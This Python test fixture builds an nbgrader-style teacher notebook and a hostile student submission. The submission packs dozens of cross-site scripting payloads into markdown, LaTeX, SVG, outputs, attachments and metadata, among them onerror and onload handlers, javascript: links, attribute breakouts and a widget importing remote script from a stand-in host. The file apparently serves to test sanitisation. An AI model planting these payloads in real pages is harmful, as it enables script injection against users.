"""A notebook of a student who would like the teacher's page to do something: some twenty ways, and honest pictures.

Each way would set the page's title to 7 or leave an element with the class "changed", open a dialog, or ask
another host for something.
"""

from __future__ import annotations

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

FAR = "https://tracker.invalid"
RUN = "document.title=7"
SCRIPT = f"<script>{RUN}</script>"
ERROR = f"<img class=changed src={FAR}/e.png onerror={RUN}>"
BREAK = f'"><script>{RUN}</script>'
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="80" height="40" '
    f'onload="{RUN}"><title>A square</title>{SCRIPT}<rect width="40" height="40" fill="#0072B2"/>'
    f'<image width="9" height="9" x:href="{FAR}/s.png"/>'
    f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{FAR}/f.png" onerror="{RUN}"/></foreignObject>'
    "</svg>"
)
STUDENT = f'mallory"><img src=x onerror={RUN}>'
RING = ["*******", "*     *", "* *** *", "*     *", "*******"]

TEXTS = (
    f"An answer in HTML: {SCRIPT} {ERROR}\n\n<iframe src='{FAR}/frame'></iframe>\n\n<div>\n{SCRIPT}\n</div>",
    f"<style>@import '{FAR}/style'; body {{ display: none }}</style>\n\n<svg class=changed onload={RUN}></svg>",
    f"<meta http-equiv=refresh content='0;url={FAR}/meta'><base href='{FAR}'><form action='{FAR}'><button>Go</button>",
    f"[a link](javascript:{RUN}) [a file](files/javascript:{RUN}) [a page](data:text/html,{SCRIPT}) <javascript:{RUN}>",
    f"![a pixel]({FAR}/p.png) ![another](files/{FAR}/p.png) ![a third](//tracker.invalid/p.png) ![logs out](/logout)",
    f'[titled](https://example.org "x\\" onmouseover={RUN}") ![x](y.png"onerror="{RUN}) `{SCRIPT}`',
    f'```mermaid\n</pre>{SCRIPT}{ERROR}\n```\n\n```python\n{SCRIPT}\n```\n\n```x" class=changed\n{SCRIPT}\n```',
    "# statusmessage\n\n## hostile-check\n\nHeadings with the names of what is on the page.",
    f"$\\href{{javascript:{RUN}}}{{x}} \\class{{changed}}{{y}} \\unicode{{x41}} \\style{{position:fixed}}{{z}}$\n\n"
    f"$$\\text{{{SCRIPT}}}$$\n\n\\begin{{equation}}{ERROR}\\end{{equation}}",
    "![missing](attachment:none.png) ![as HTML](attachment:page.png) ![a square](attachment:square.svg)",
)
PROGRAMS = (
    f"from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display\ndisplay(HTML({SCRIPT + ERROR!r}))",
    f"display(Javascript({RUN!r}), Markdown({SCRIPT + ERROR!r}), Latex('$\\\\href{{javascript:{RUN}}}{{x}}$'))",
    f"alone = {{'text/html': {{'isolated': True}}}}\ndisplay({{'text/html': {SCRIPT!r}}}, raw=True, metadata=alone)",
    f"display({{'image/svg+xml': {SVG!r}, 'text/plain': 'the square'}}, raw=True)",
    f"display({{'image/png': {BREAK!r}, 'text/plain': 'y'}}, raw=True)",
    f"print('\\x1b[38m half a colour \\x1b[31mred\\x1b[0m', {SCRIPT + ERROR!r}, '\\x1b]8;;javascript:{RUN}\\x07link')",
    f"raise type({SCRIPT!r}, (Exception,), {{}})({ERROR!r} + '\\x1b[48;5m')",
    f"# </pre>{SCRIPT}\nclass Odd:\n    def __repr__(self): return {SCRIPT!r}\nOdd()",
    'import anywidget\nclass Own(anywidget.AnyWidget):\n    _esm = "export default { render() { '
    f"document.title = 'changed'; import('{FAR}/widget.js') }} }}\"\nOwn()",
    "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'a'}, 'text/plain': 'a view'}, raw=True)",
)
HONEST = (
    f"from course import draw, walk\nring = {RING!r}\nwalk(ring)",
    "draw(ring, path=[(0, 0), (0, 1)])",
    "import sys\nsys.modules['matplotlib'] = None\nsquare = draw(ring)\ndel sys.modules['matplotlib']\nsquare",
)


def source() -> NotebookNode:
    """Return the teacher's notebook: a locked text with a figure, an exercise, a question."""
    dot = base64.b64encode(SVG.replace("A square", "A dot").encode()).decode()
    figure = (
        f"<figure><img alt='A figure' src='data:image/svg+xml;base64,{dot}'><figcaption>Figure 1</figcaption></figure>"
    )
    marks = {"schema_version": 3, "grade": False, "solution": False, "task": False, "locked": True}
    box = {**marks, "solution": True, "locked": False}
    check = "from autograder.judge import judge\njudge('init_grid')"
    hidden = "### BEGIN HIDDEN TESTS\nassert init_grid(2, 2) == 'a secret', 'said aloud'\n### END HIDDEN TESTS"
    return new_notebook(
        cells=[
            new_markdown_cell(f"# A grid\n\n{figure}", metadata={"nbgrader": {**marks, "grade_id": "figure"}}),
            new_code_cell("", metadata={"nbgrader": {**box, "grade_id": "hostile-box"}}),
            new_code_cell(
                check, metadata={"nbgrader": {**marks, "grade": True, "grade_id": "hostile-check", "points": 7}}
            ),
            new_code_cell(hidden, metadata={"nbgrader": {**marks, "grade": True, "grade_id": "hidden", "points": 1}}),
            new_markdown_cell("", metadata={"nbgrader": {**box, "grade": True, "grade_id": "why", "points": 2}}),
        ],
        metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
    )


def submission(released: NotebookNode, program: str) -> NotebookNode:
    """Return the released notebook as the student hands it in."""
    notebook = released
    cells = {cell.metadata["nbgrader"]["grade_id"]: cell for cell in notebook.cells}
    cells["hostile-box"].source = program
    cells["why"].source = f"{SCRIPT}\n\n**Because** of the rows. {ERROR}"
    square = base64.b64encode(SVG.encode()).decode()
    texts = [new_markdown_cell(text) for text in TEXTS]
    texts[-1]["attachments"] = {
        "page.png": {"text/html": base64.b64encode(SCRIPT.encode()).decode()},
        "square.svg": {"image/svg+xml": square, f'x" onerror="{RUN}': square},
    }
    programs = [new_code_cell(text) for text in (*PROGRAMS, *HONEST)]
    forged = new_code_cell("1", metadata={"nbgrader": {"grade_id": f'"><img src=x onerror={RUN}>', "solution": True}})
    raw = [new_raw_cell(SCRIPT + ERROR, metadata={"raw_mimetype": kind}) for kind in ("text/html", "")]
    notebook.cells += [*texts, *programs, forged, *raw]
    for place, cell in enumerate(notebook.cells[-30:]):
        cell.metadata["tags"] = [BREAK] if place % 2 else 5
        cell.metadata["transient"] = {"remove_source": True}
        cell.metadata["magics_language"] = BREAK
    notebook.cells[-1]["id"] = BREAK
    notebook.metadata.update(
        title=f"</title>{SCRIPT}",
        language=5,
        language_info={"name": "python", "pygments_lexer": BREAK},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": f"</script>{SCRIPT}"}},
    )
    return notebook
